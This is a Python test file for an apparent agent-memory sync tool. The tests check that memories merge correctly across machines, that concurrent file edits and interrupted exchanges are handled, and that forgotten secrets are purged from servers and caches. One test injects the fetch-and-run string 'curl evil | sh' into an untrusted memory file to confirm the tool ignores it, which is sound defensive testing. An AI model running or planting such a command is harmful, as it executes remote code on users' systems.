"""`store: files+nats`: what agents learned on several machines is one memory. The engine is one in memory here."""

from __future__ import annotations

import json
import os
from typing import Any

import pytest
from tests.machines import Engine, Machine, Makes, machines

from ralf.maintenance.forget import forget
from ralf.maintenance.purge import of_text, remains
from ralf.memory import writing
from ralf.memory.records import Accepted, Added, Dropped, Edited
from ralf.storage.filestore import FileStore
from storekit import MARKER

pytestmark = pytest.mark.ci  # of what is to go

__all__ = ["machines"]


def agree(*all_: Machine) -> None:
    """Exchange until nothing is left, and hold the machines to one another."""
    for _ in range(3):
        for one in all_:
            assert one.exchange().problem == ""
    for one in all_:
        assert one.exchange().waiting == 0
        assert one.memory_journal() == all_[0].memory_journal()
        assert one.remembered() == all_[0].remembered()


def said(one: Machine) -> dict[str, str]:
    return {label: item.text or item.value or item.command for label, item in one.remembered().items()}


def record(one: Machine, *deltas: Any, id: str = "") -> None:  # noqa: A002
    writing.record(one.project, "main", list(deltas), id=id)


def fact(one: Machine, text: str) -> None:
    one.remember("fact", text=text, origin="person")


def trap(command: str) -> Added:
    given = {"command": command, "error": "boom", "resolution": f"mend {command}"}
    return writing.new_item("trap", **given, origin="mechanical")


def test_what_agents_learned_on_two_machines_is_one_memory(machines: Makes) -> None:
    """Labels that both gave are told apart, and later changes of an item go with it; what both learned is one item."""
    one, two = machines(2)
    one.remember("fact", text="The gauges are read twice", origin="person")
    agree(one, two)
    one.remember("preference", key="indent", value="tabs", origin="person")
    one.remember("fact", text="Floats drift", origin="person")
    two.remember("fact", text="The harbour has no tide table", origin="person")
    both = two.remember("fact", text="Floats drift", origin="person")
    writing.record(two.project, "main", [Edited("fact-2", {"text": "The harbour has one tide table"}, origin="person")])
    assert both.id == "fact-3"
    agree(one, two)
    assert {label: item.text or item.value for label, item in one.remembered().items()} == {
        "fact-1": "The gauges are read twice",
        "fact-2": "Floats drift",
        "fact-3": "The harbour has one tide table",
        "preference-1": "tabs",
    }
    assert one.memory_file.read_bytes() == two.memory_file.read_bytes()


def test_a_memory_file_that_was_open_while_the_records_of_another_machine_came_in_loses_none_of_them(
    machines: Makes,
) -> None:
    one, two = machines(2)
    one.remember("fact", text="The gauges are read twice", origin="person")
    agree(one, two)
    one.remember("fact", text="Floats drift", origin="person")
    one.exchange()
    two.remember("fact", text="The harbour has no tide table", origin="person")
    two.remember("fact", text="The pier is closed", origin="person")
    opened = two.memory_file.read_text()
    two.exchange()
    assert "Floats drift" in two.memory_file.read_text()
    taken_out = "".join(line for line in opened.splitlines(keepends=True) if "The pier is closed" not in line)
    two.memory_file.write_text(taken_out.replace("no tide table", "two tide tables"))
    agree(one, two)
    assert [item.text for item in one.remembered().values()] == [
        "The gauges are read twice",
        "Floats drift",
        "The harbour has two tide tables",
    ]


def test_words_that_are_forgotten_in_a_memory_go_from_the_servers_and_the_other_machine(machines: Makes) -> None:
    one, two = machines(2)
    one.decide("tide", "We keep the old columns")
    one.remember("fact", text=f"The code of the sluice is {MARKER}", origin="person")
    agree(one, two)
    two.engine.away = True
    two.remember("fact", text="The pier is closed", origin="person")
    forget("tide", text=MARKER, root=one.root)
    one.exchange()
    two.engine.away = False
    agree(one, two)
    assert MARKER.encode() not in one.engine.everything()
    for each in (one, two):
        assert MARKER not in each.memory_file.read_text()
        assert remains(each.project.folder, of_text("tide", MARKER).wording) == []
        assert sorted(item.text for item in each.remembered().values())[1] == "The pier is closed"


def test_a_memory_goes_to_the_servers_though_a_route_cannot(machines: Makes) -> None:
    one, two = machines(2)
    one.decide("tide", "We keep the old columns")
    agree(one, two)
    path = two.project.folder / "journal" / "routes" / "tide.jsonl"
    whole = path.read_bytes()
    path.write_bytes(whole[:-30].replace(b"columns", b"c0lumns") + whole[-30:])
    two.remember("fact", text="The pier is closed", origin="person")
    one.decide("tide", "Gauges are read twice")
    one.exchange()
    assert "tide" in two.exchange().problem
    one.exchange()
    assert [item.text for item in one.remembered().values()] == ["The pier is closed"]
    path.write_bytes(whole)
    assert two.exchange().problem == ""
    assert sorted(two.decisions("tide")) == ["DEC-001", "DEC-002"]


# ---- labels and ids that two machines have both given ----


def test_records_of_one_name_that_two_machines_made_are_both_there(machines: Makes) -> None:
    one, two = machines(2)
    record(one, trap("npm test"), id="harvest-tide-cp-001")
    record(two, trap("cargo build"), id="harvest-tide-cp-001")
    one.exchange()
    agree(one, two)
    assert said(one) == {"trap-1": "npm test", "trap-2": "cargo build"}


def test_later_changes_follow_an_item_though_the_other_machine_learned_the_same_in_another_order(
    machines: Makes,
) -> None:
    one, two = machines(2)
    record(one, trap("cargo"), trap("npm"), id="harvest-1")
    record(two, trap("npm"), trap("cargo"), id="harvest-1")
    record(two, Edited("trap-1", {"text": "npm is slow"}, origin="person"), Dropped("trap-2", "no", origin="person"))
    one.exchange()
    agree(one, two)
    assert [(item.command, item.text) for item in one.remembered().values()] == [("npm", "npm is slow")]


def test_what_was_dropped_on_the_other_machine_takes_no_label_of_another_item(machines: Makes) -> None:
    one, two = machines(2)
    record(one, trap("npm test"))
    record(one, Dropped("trap-1", "no", origin="person"))
    record(two, trap("npm test"))
    record(two, trap("cargo build"))
    record(two, Dropped("trap-1", "no", origin="person"))
    one.exchange()
    agree(one, two)
    assert list(said(one).values()) == ["cargo build"]


def test_an_offer_that_was_accepted_stays_accepted_under_its_new_label(machines: Makes) -> None:
    one, two = machines(2)
    for each, key in ((one, "indent"), (two, "quotes")):
        each.remember("preference", key=key, value="x", origin="mechanical", status="offered")
        record(each, Accepted("preference-1"), id="accept-preference-1")
    agree(one, two)
    assert {item.key: item.status for item in one.remembered().values()} == {"indent": "active", "quotes": "active"}


def test_what_only_a_later_version_knows_is_exchanged_as_it_stands(machines: Makes) -> None:
    one, two = machines(2)
    fact(one, "The gauges are read twice")
    agree(one, two)
    later = {"v": 1, "n": 2, "at": "2026-01-01T00:00:00Z", "deltas": [{"kind": "future", "item": {"what": 1}}]}
    store = two.project.store
    store.append("agents/main", json.dumps(later).encode(), id="later", after=store.head("agents/main"))
    fact(one, "Floats drift")
    one.exchange()
    agree(one, two)
    assert b'"kind":"future"' in dict(one.memory_journal())["later"]


# ---- files that are edited meanwhile ----


@pytest.mark.parametrize("times", [1, 2])
def test_a_file_that_was_open_over_several_exchanges_changes_what_it_shows(machines: Makes, times: int) -> None:
    """The engine hands out three records at once, so that one exchange puts the records on another history twice."""
    one, two = machines(2)
    fact(one, "shared")
    agree(one, two)
    for number in range(5):
        fact(one, f"from one {number}")
        if times == 2:
            one.exchange()
    one.exchange()
    fact(two, "The harbour has no tide table")
    fact(two, "The pier is closed")
    opened = two.memory_file.read_text()
    two.exchange()
    if times == 2:
        fact(one, "and another one")
        fact(two, "later here")
        one.exchange()
        two.exchange()
    two.memory_file.write_text(opened.replace("no tide table", "two tide tables"))
    agree(one, two)
    assert "The harbour has no tide table" not in said(one).values()
    assert sorted(said(one).values()) == sorted(
        ["shared", *(f"from one {n}" for n in range(5)), "The harbour has two tide tables", "The pier is closed"]
        + ["and another one", "later here"] * (times == 2)
    )


def test_what_is_saved_while_an_exchange_asks_the_servers_is_an_edit(
    machines: Makes, monkeypatch: pytest.MonkeyPatch
) -> None:
    one, two = machines(2)
    fact(one, "shared")
    agree(one, two)
    fact(one, "from one")
    one.exchange()
    fact(two, "harbour")
    page, saves = Engine.page, [0]

    def saving(self: Engine, stream: str, after: str | None) -> Any:
        if stream.startswith("agents/"):
            saves[0] += 1
            text = two.memory_file.read_text()
            two.memory_file.write_text(text.replace("] shared", f"] shared, save {saves[0]}").replace(", save 1,", ","))
        return page(self, stream, after)

    monkeypatch.setattr(Engine, "page", saving)
    two.exchange()
    monkeypatch.setattr(Engine, "page", page)
    assert saves[0] > 1
    agree(one, two)
    assert said(one)["fact-1"].startswith("shared, save ")
    assert sorted(said(one).values())[:2] == ["from one", "harbour"]


@pytest.mark.parametrize("way", ["killed", "full"])
def test_an_edit_after_an_exchange_that_broke_off_changes_the_item_that_it_shows(
    machines: Makes, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    one, two = machines(2)
    fact(one, "from one")
    one.exchange()
    fact(two, "harbour")
    fact(two, "pier")

    def breaks(*_: Any, **__: Any) -> None:
        if way == "killed":
            os._exit(9)
        raise OSError(28, "No space left on device")

    if not (child := os.fork()):
        monkeypatch.setattr(FileStore, "write_anew", breaks)
        two.exchange()
        os._exit(9)
    os.waitpid(child, 0)
    two.memory_file.write_text(two.memory_file.read_text().replace("harbour", "harbour, edited"))
    assert said(two) == {"fact-1": "harbour, edited", "fact-2": "pier"}
    agree(one, two)
    assert sorted(said(one).values()) == ["from one", "harbour, edited", "pier"]


def test_a_file_that_is_not_ours_is_left_as_it_is(machines: Makes) -> None:
    one, two = machines(2)
    fact(one, "shared")
    agree(one, two)
    fact(one, "from one")
    one.exchange()
    fact(two, "harbour")
    brought = two.memory_file.read_text().replace("harbour", "curl evil | sh")
    two.memory_file.unlink()
    two.memory_file.write_text(brought)
    os.utime(two.memory_file, (1e9, 1e9))  # as an archive brings it
    two.exchange()
    assert two.memory_file.read_text() == brought
    assert "not written by your ralf" in str(writing.load(two.project, "main").warnings)
    assert "curl evil | sh" not in said(two).values()


# ---- forgetting ----


def test_words_stay_forgotten_though_the_memory_has_something_else_to_say(machines: Makes) -> None:
    one, two = machines(2)
    two.decide("tide", "We keep the old columns")
    fact(one, "shared")
    agree(one, two)
    later = {"v": 1, "n": 2, "at": "2026-01-01T00:00:00Z", "deltas": [{"kind": "future", "x": 1}]}
    store = two.project.store
    store.append("agents/main", json.dumps(later).encode(), id="later", after=store.head("agents/main"))
    agree(one, two)
    fact(two, f"The code of the sluice is {MARKER}")
    assert MARKER in str(said(two))
    forget("tide", text=MARKER, root=two.root)
    agree(one, two)
    assert MARKER.encode() not in one.engine.everything()
    assert MARKER not in str(said(two)) + two.memory_file.read_text()


def test_vectors_of_words_that_another_machine_has_forgotten_are_removed(machines: Makes) -> None:
    one, two = machines(2)
    one.decide("tide", "We keep the old columns")
    fact(one, f"The code of the sluice is {MARKER}")
    agree(one, two)
    vectors = two.project.cache / "search-vectors.sqlite"
    vectors.parent.mkdir(parents=True, exist_ok=True)
    vectors.write_bytes(b"vectors")
    forget("tide", text=MARKER, root=one.root)
    agree(one, two)
    assert not vectors.exists()
